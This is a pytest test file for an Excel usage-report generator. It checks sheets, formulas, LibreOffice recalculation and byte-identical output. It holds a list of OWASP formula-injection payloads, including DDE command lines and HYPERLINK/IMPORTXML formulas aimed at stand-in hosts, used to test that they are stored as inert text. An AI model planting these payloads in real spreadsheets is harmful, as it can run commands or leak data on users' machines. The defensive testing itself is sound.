"""The workbook: structure and styles read back with openpyxl, formulas recalculated by LibreOffice."""


import io

import openpyxl
import pytest

import generect_reports as g
from support import run_cli, soffice_recalculate
from generect_reports.outputs.excel import write_report_workbook
from helpers import frame

# OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection)
OWASP_PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example","click")', "=IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
]


@pytest.fixture(scope="module")
def sample_report(tmp_path_factory):
    sample = g.load_sample()
    rep = g.build_report(sample, "2026-10")
    path = tmp_path_factory.mktemp("xlsx") / "report.xlsx"
    write_report_workbook(rep, path)
    return rep, path


def test_sheets_and_formulas(sample_report):
    rep, path = sample_report
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "By operation", "Monthly", "Daily", "Anomalies", "About"]
    ws = wb["By operation"]
    n = len(rep.operations)
    total_row = 5 + n
    assert ws["C5"].value == f'=IF($B${total_row}=0,"",B5/$B${total_row})'
    assert ws[f"B{total_row}"].value == f"=SUM(B5:B{total_row - 1})"
    assert ws["F5"].value == '=IF(D5=0,"",E5/D5)'
    assert ws["B5"].number_format == "#,##0.00" and ws["C5"].number_format == "0.0%"
    assert ws.freeze_panes == "B5"
    assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$4:$4"
    assert {"MonthTotal", "PreviousTotal", "ChangePct", "EstimatedCost", "TopOperation"} <= set(wb.defined_names)
    summary = wb["Summary"]
    assert len(summary._charts) == 2
    kinds = {type(c).__name__ for c in summary._charts}
    assert kinds == {"BarChart", "DoughnutChart"}
    daily = wb["Daily"]
    assert "DailyUsage" in daily.tables and daily.tables["DailyUsage"].ref == f"A1:D{len(rep.daily) + 1}"
    about = {r[0]: r[1] for r in wb["About"].iter_rows(min_row=4, values_only=True) if r[0]}
    assert about["Source"] == "sample data (fictional account)"
    assert about["Input checksum (SHA-256)"] == rep.checksum and len(rep.checksum) == 64
    assert about["Month complete"] == "yes"
    assert wb["Anomalies"]["B5"].value == "search_realtime"
    assert wb["Anomalies"]["A5"].fill.fgColor.rgb.endswith("FDEBD0")
    assert len(ws.conditional_formatting) >= 2


def _values(path, sheet, min_row, max_row, max_col):
    wb = openpyxl.load_workbook(path, data_only=True)
    return list(wb[sheet].iter_rows(min_row=min_row, max_row=max_row, max_col=max_col, values_only=True))


@pytest.mark.libreoffice
def test_libreoffice_recalculation_matches_analysis(sample_report, tmp_path):
    rep, path = sample_report
    recalculated = soffice_recalculate(path, tmp_path)
    n = len(rep.operations)
    rows = _values(recalculated, "By operation", 5, 5 + n, 8)
    ops = rep.operations
    for row, want in zip(rows, ops.itertuples(index=False)):
        assert row[0] == want.operation
        assert row[2] == pytest.approx(want.share)
        assert row[4] == pytest.approx(want.change)
        if want.previous_credits == 0:
            assert row[5] in ("", None)  # guarded, never #DIV/0!
        else:
            assert row[5] == pytest.approx(want.change_pct)
        assert row[7] == pytest.approx(want.estimated_cost)
    total = rows[-1]
    assert total[1] == pytest.approx(rep.total) and total[3] == pytest.approx(rep.previous_total)
    assert total[5] == pytest.approx(rep.change_pct) and total[7] == pytest.approx(rep.estimated_cost)
    mom = g.monthly_totals(g.load_sample()).set_index("month")
    monthly = _values(recalculated, "Monthly", 4, 5 + len(rep.monthly) + 2, len(rep.monthly.columns) + 2)
    months = monthly[0][1:-1]
    totals = dict(zip(months, monthly[-3][1:-1]))
    pcts = dict(zip(months, monthly[-1][1:-1]))
    for m in months:
        assert totals[m] == pytest.approx(mom.loc[m, "credits"])
        if m != months[0]:
            assert pcts[m] == pytest.approx(mom.loc[m, "change_pct"])
    summary = {r[0]: r[1] for r in _values(recalculated, "Summary", 4, 20, 2) if r[0]}
    assert summary["Credits this month"] == pytest.approx(rep.total)
    assert summary["Top operation"] == rep.top_operation
    assert summary["Estimated cost (estimate)"] == pytest.approx(rep.estimated_cost)
    wb = openpyxl.load_workbook(recalculated, data_only=True)
    for ws in wb:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (isinstance(v, str) and v.startswith("#") and v.endswith(("!", "?", "A"))), v


@pytest.mark.libreoffice
def test_partial_month_and_new_operation_recalculate(tmp_path):
    rows = [(f"2026-04-{d:02d}", "a", 10.0) for d in range(1, 31)]
    rows += [(f"2026-05-{d:02d}", "a", 12.0) for d in range(1, 11)]
    rows += [("2026-05-03", "brand_new", 7.0)]
    usage = frame(rows, fetched_at="2026-05-11 09:30")
    rep = g.build_report(usage, "2026-05")
    assert not rep.complete and rep.new_operations == ["brand_new"]
    path = tmp_path / "partial.xlsx"
    write_report_workbook(rep, path)
    recalculated = soffice_recalculate(path, tmp_path)
    rows = _values(recalculated, "By operation", 5, 7, 9)
    by_op = {r[0]: r for r in rows}
    assert by_op["a"][3] == 120.0 and by_op["a"][4] == 100.0 and by_op["a"][6] == pytest.approx(0.2)
    assert by_op["brand_new"][6] in ("", None)
    assert by_op["Total"][5] == pytest.approx(27.0)
    summary = {r[0]: r[1] for r in _values(recalculated, "Summary", 4, 20, 2) if r[0]}
    assert summary["Month-end projection (estimate)"] == pytest.approx(rep.projection, abs=0.01)
    assert any("like for like" in str(v) for v in summary.values())


def test_formula_injection_is_stored_as_text(tmp_path):
    rows = [("2026-04-01", p, 1.0 + i) for i, p in enumerate(OWASP_PAYLOADS)]
    rows += [("2026-05-01", p, 2.0 + i) for i, p in enumerate(OWASP_PAYLOADS)]
    usage = frame(rows, fetched_at="2026-06-01 00:00")
    rep = g.build_report(usage, "2026-05")
    path = tmp_path / "inject.xlsx"
    write_report_workbook(rep, path)
    wb = openpyxl.load_workbook(path)
    seen = set()
    payloads = {p: p for p in OWASP_PAYLOADS}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in payloads:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix
                    seen.add(payloads[cell.value])
    assert seen == set(OWASP_PAYLOADS)
    export = tmp_path / "tidy.xlsx"
    g.write_usage_xlsx(usage, export)
    ws = openpyxl.load_workbook(export)["Usage"]
    cells = [c for row in ws.iter_rows(min_row=3) for c in row if c.column == 3]
    assert {c.value for c in cells} == set(OWASP_PAYLOADS) and all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r")))


@pytest.mark.libreoffice
def test_injection_payloads_stay_text_in_libreoffice(tmp_path):
    rows = [("2026-05-01", p, 1.0) for p in OWASP_PAYLOADS]
    usage = frame(rows, fetched_at="2026-06-01 00:00")
    path = tmp_path / "inject.xlsx"
    g.write_excel_report(usage, path, month="2026-05")
    recalculated = soffice_recalculate(path, tmp_path)
    names = {r[0] for r in _values(recalculated, "By operation", 5, 4 + len(OWASP_PAYLOADS), 1)}
    assert names == set(OWASP_PAYLOADS)


def test_tidy_export_table_and_split(tmp_path, sample):
    path = tmp_path / "u.xlsx"
    g.write_usage_xlsx(sample, path)
    ws = openpyxl.load_workbook(path)["Usage"]
    assert ws.max_row == len(sample) + 2 and "Usage1" in ws.tables
    assert [c.value for c in ws[2]] == ["period_start", "period", "operation", "credits"]
    small = tmp_path / "split.xlsx"
    g.write_usage_xlsx(sample.head(25), small, max_rows=12)
    wb = openpyxl.load_workbook(small)
    assert wb.sheetnames == ["Usage 1", "Usage 2", "Usage 3"]
    assert sum(ws.max_row - 2 for ws in wb) == 25
    assert "part 1 of 3" in wb["Usage 1"]["A1"].value


def test_cli_report_sample_xlsx(tmp_path):
    out = run_cli("report", "--sample", "--xlsx", str(tmp_path / "x.xlsx"))
    assert out.returncode == 0, out.stderr
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert "October 2026" in wb["Summary"]["A1"].value


def test_cli_report_api_xlsx(token_env, tmp_path):
    out = run_cli("report", "--month", "2026-05", "--history", "3", "--timezone", "Europe/Kyiv",
                  "--xlsx", str(tmp_path / "api.xlsx"))
    assert out.returncode == 0, out.stderr
    wb = openpyxl.load_workbook(tmp_path / "api.xlsx")
    values = {r[0]: r[1] for r in wb["By operation"].iter_rows(min_row=5, values_only=True)}
    assert values["search_database"] == 310.0 and values["email_find"] == 77.5
    about = {r[0]: r[1] for r in wb["About"].iter_rows(min_row=4, values_only=True)}
    assert about["Source"] == token_env.url


def test_theme_template_override(tmp_path, sample):
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "theme.toml").write_text('[text]\ntitle = "ACME spend"\n[formats]\ncredits = "#,##0.0"\n')
    path = tmp_path / "t.xlsx"
    g.write_excel_report(sample, path, month="2026-10", template=folder)
    wb = openpyxl.load_workbook(path)
    assert wb["Summary"]["A1"].value.startswith("ACME spend")
    assert wb["By operation"]["B5"].number_format == "#,##0.0"
    with pytest.raises(g.TemplateError):
        g.write_excel_report(sample, path, month="2026-10", template=tmp_path / "missing")


@pytest.mark.libreoffice
def test_tidy_export_reads_back_in_libreoffice(tmp_path, sample):
    rows = sample.head(300).copy()
    rows.loc[5, "operation"] = "=1+1"
    rows.loc[6, "operation"] = "a<b & \x07bell"
    rows.attrs = dict(sample.attrs)
    path = tmp_path / "tidy.xlsx"
    g.write_usage_xlsx(rows, path)
    back = soffice_recalculate(path, tmp_path)
    got = _values(back, "Usage", 3, 302, 4)
    assert [r[2] for r in got][5:7] == ["=1+1", "a<b & _x0007_bell"]
    assert [r[3] for r in got] == rows["credits"].tolist()
    assert got[0][0] == rows["period_start"].iloc[0].tz_localize(None).to_pydatetime()


def test_cli_report_current_month_is_partial(token_env, tmp_path):
    """The month that is running: compared like for like, with a projection (API path)."""
    import datetime as dt

    today = dt.datetime.now(dt.timezone.utc).date()
    month = f"{today:%Y-%m}"
    out = run_cli("report", "--month", month, "--history", "2", "--timezone", "UTC", "--xlsx", str(tmp_path / "p.xlsx"))
    if today.day == 1:  # no complete day of this month yet
        assert out.returncode == 2 and "no complete day" in out.stderr
        return
    assert out.returncode == 0, out.stderr
    assert "is not over" in out.stderr  # the warning line
    summary = {r[0]: r[1] for r in openpyxl.load_workbook(tmp_path / "p.xlsx")["Summary"].iter_rows(min_row=4, values_only=True) if r[0]}
    elapsed = today.day - 1
    assert summary["Comparison"].startswith(f"like for like: {month} days 1-{elapsed}")
    # 12.5 credits a day in the local API: the projection is the whole month at that rate
    import calendar

    days = calendar.monthrange(today.year, today.month)[1]
    assert summary["Month-end projection (estimate)"] == pytest.approx(12.5 * days)


def test_workbooks_are_byte_identical_for_the_same_data(tmp_path, sample):
    """Reproducible files: no wall-clock times in the document or the zip entries."""
    import time

    rep = g.build_report(sample, "2026-10")
    from generect_reports.outputs.excel import render_workbook

    first = render_workbook(rep)
    time.sleep(2.1)  # zip entry times have a 2-second resolution: cross a tick on purpose
    assert render_workbook(rep) == first
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    g.write_usage_xlsx(sample.head(500), a)
    g.write_usage_xlsx(sample.head(500), b)
    assert a.read_bytes() == b.read_bytes()
    assert openpyxl.load_workbook(io.BytesIO(first)).properties.modified.isoformat() == "2026-10-31T22:00:00"
